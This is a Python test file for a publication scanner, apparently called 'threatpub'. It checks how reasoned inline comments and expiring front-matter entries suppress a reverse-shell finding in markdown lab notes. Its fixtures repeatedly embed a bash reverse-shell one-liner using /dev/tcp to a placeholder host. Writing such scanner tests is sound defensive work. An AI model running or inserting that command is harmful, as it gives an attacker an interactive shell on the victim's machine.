"""Suppressing a content finding (SPEC §5), through the real `threatpub check`.

Inline `<!-- threatpub: allow CODE reason="…" -->` on the line before or the same line, and
front-matter `allow` entries with `expires`. The reverse shell is the content to accept.
"""

from __future__ import annotations

from pathlib import Path

from tests.rules.helpers import check, line_of

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
REASON = "lab walkthrough against our own test host; reviewed by security-review"

BEFORE = f"""
# Lab notes

<!-- threatpub: allow CAC402 reason="{REASON}" -->
```bash
{SHELL}
```

The shell connects back to the lab host.
"""

SAME_LINE = f"""
# Lab notes

```bash
{SHELL}  <!-- threatpub: allow CAC402 reason="{REASON}" -->
```
"""

ELSEWHERE = f"""
# Lab notes

<!-- threatpub: allow CAC402 reason="{REASON}" -->
An unrelated paragraph right below the comment.

```bash
{SHELL}
```
"""

NO_REASON = f"""
# Lab notes

<!-- threatpub: allow CAC402 -->
```bash
{SHELL}
```
"""

PAPERWORK = f"""
# Lab notes

<!-- threatpub: allow CAC801 reason="{REASON}" -->
```bash
{SHELL}
```
"""

# Showing the syntax in inline code is documentation, not a suppression.
SYNTAX_IN_INLINE_CODE = """
# How to accept a finding

Put `<!-- threatpub: allow CAC402 -->` right above the block, with a reason.
"""

# A non-content rule is never suppressed, even by a comment placed right above it.
HYPE_ALLOWED = f"""
---
threatpub:
  kind: general
---
# Notes

<!-- threatpub: allow CAC300 reason="{REASON}" -->
The most dangerous ever bug.
"""


def front_matter_allow(expires: str = "") -> str:
    line = f"\n      expires: {expires}" if expires else ""
    return f"""
---
threatpub:
  kind: general
  allow:
    - rule: CAC402
      reason: "{REASON}"
      approved_by: security-review{line}
---
# Lab notes

```bash
{SHELL}
```
"""


FM_ALLOW = front_matter_allow()
FM_VALID = front_matter_allow("2027-06-01")
FM_EXPIRED = front_matter_allow("2026-11-01")


def test_inline_allow_on_the_line_before_or_the_same_line_suppresses(tmp_path: Path) -> None:
    """The page is published; the report lists the finding under `suppressed` with the
    reason, at the shell's line, and never quotes the shell."""
    run = check(tmp_path, {"before.md": BEFORE, "same-line.md": SAME_LINE})
    assert run.returncode == 0, run.stdout
    for path, text in (("before.md", BEFORE), ("same-line.md", SAME_LINE)):
        page = run.page(path)
        assert page.verdict == "publish", (path, page.findings)
        assert page.findings == [], path
        suppressed = page.data["suppressed"]
        assert [f["code"] for f in suppressed] == ["CAC402"], path
        assert suppressed[0]["suppressed_by"] == REASON
        assert suppressed[0]["line"] == line_of(text, "/dev/tcp")
    # What was found is described ("reverse shell (/dev/tcp redirection)"), never quoted.
    assert "203.0.113.5" not in run.stdout
    assert "4444" not in run.stdout


def test_misplaced_inline_allow_is_unused_and_the_page_stays_held(tmp_path: Path) -> None:
    """A comment above another block accepts nothing: META011 (warn) at the comment."""
    run = check(tmp_path, {"elsewhere.md": ELSEWHERE})
    page = run.page("elsewhere.md")
    assert page.verdict == "hold", page.findings
    unused = page.one("META011")
    assert unused["line"] == line_of(ELSEWHERE, "threatpub: allow")
    assert unused["action"] == "warn"
    assert page.one("CAC402")["line"] == line_of(ELSEWHERE, "/dev/tcp")
    assert page.data["suppressed"] == []


def test_inline_allow_without_reason_fails(tmp_path: Path) -> None:
    """META010 fails the page, and the finding is not suppressed either."""
    run = check(tmp_path, {"no-reason.md": NO_REASON})
    page = run.page("no-reason.md")
    assert page.verdict == "fail", page.findings
    assert page.one("META010")["line"] == line_of(NO_REASON, "threatpub: allow")
    assert page.one("CAC402")["action"] == "hold"
    assert page.data["suppressed"] == []


def test_inline_allow_naming_a_paperwork_rule_is_invalid(tmp_path: Path) -> None:
    """CAC801 is satisfied by records, not by a person's acceptance: META003, and the
    comment (above the shell) suppresses nothing."""
    run = check(tmp_path, {"paperwork.md": PAPERWORK})
    page = run.page("paperwork.md")
    assert page.verdict == "fail", page.findings
    invalid = page.one("META003")
    assert invalid["line"] == line_of(PAPERWORK, "threatpub: allow")
    assert "CAC801" in invalid["message"]
    assert page.one("CAC402")["action"] == "hold"
    assert page.data["suppressed"] == []


def test_inline_allow_never_suppresses_a_non_content_rule(tmp_path: Path) -> None:
    """Near miss: a reasoned comment right above hype wording leaves CAC300 in place."""
    run = check(tmp_path, {"hype.md": HYPE_ALLOWED})
    page = run.page("hype.md")
    assert page.verdict == "fail", page.findings
    assert "CAC300" in page.codes
    assert page.one("META003")["line"] == line_of(HYPE_ALLOWED, "threatpub: allow")
    assert page.data["suppressed"] == []


def test_allow_syntax_shown_in_inline_code_is_not_a_suppression(tmp_path: Path) -> None:
    """Near miss: a page documenting the comment is not failed for a missing reason."""
    run = check(tmp_path, {"howto.md": SYNTAX_IN_INLINE_CODE})
    page = run.page("howto.md")
    assert page.verdict == "publish", page.findings
    assert page.findings == []


def test_front_matter_allow_with_reason_suppresses(tmp_path: Path) -> None:
    """With or without a future `expires`, the entry accepts the shell; reason reported."""
    run = check(tmp_path, {"allow.md": FM_ALLOW, "valid.md": FM_VALID})
    assert run.returncode == 0
    for path in ("allow.md", "valid.md"):
        page = run.page(path)
        assert page.verdict == "publish", (path, page.findings)
        assert page.findings == [], path
        [suppressed] = page.data["suppressed"]
        assert (suppressed["code"], suppressed["suppressed_by"]) == ("CAC402", REASON)


def test_expired_front_matter_allow_stops_suppressing(tmp_path: Path) -> None:
    """Expired on 2026-11-01 (now is 2026-11-23): META011 at the entry, and the hold is back."""
    run = check(tmp_path, {"expired.md": FM_EXPIRED})
    page = run.page("expired.md")
    assert page.verdict == "hold", page.findings
    expired = page.one("META011")
    assert "expired" in expired["message"]
    assert expired["line"] == line_of(FM_EXPIRED, "- rule: CAC402")
    assert page.one("CAC402")["action"] == "hold"
    assert page.data["suppressed"] == []
    # The same page judged before the entry expired is published.
    earlier = check(
        tmp_path / "earlier", {"expired.md": FM_EXPIRED}, now="2026-10-31T12:00:00+08:00"
    )
    assert earlier.page("expired.md").verdict == "publish"


def test_inline_allow_covers_only_the_copy_below_it(tmp_path: Path) -> None:
    """The same shell twice: a comment above one copy does not accept the other (findings
    are one per distinct content, so the copy nobody reviewed is reported at its line)."""
    allow = f'<!-- threatpub: allow CAC402 reason="{REASON}" -->\n'
    block = f"```bash\n{SHELL}\n```\n"
    first_only = f"# Lab\n\n{allow}{block}\nLater:\n\n{block}"
    second_only = f"# Lab\n\n{block}\nLater:\n\n{allow}{block}"
    both = f"# Lab\n\n{allow}{block}\nLater:\n\n{allow}{block}"
    run = check(
        tmp_path, {"first-only.md": first_only, "second-only.md": second_only, "both.md": both}
    )
    for path, text, copy in (("first-only.md", first_only, 2), ("second-only.md", second_only, 1)):
        page = run.page(path)
        assert page.verdict == "hold", (path, page.findings)
        assert page.one("CAC402")["line"] == line_of(text, "/dev/tcp", copy), path
        assert "META011" not in page.codes, path  # the comment is where it belongs
        assert page.data["suppressed"] == [], path
    page = run.page("both.md")
    assert page.verdict == "publish", page.findings
    assert [f["suppressed_by"] for f in page.data["suppressed"]] == [REASON]
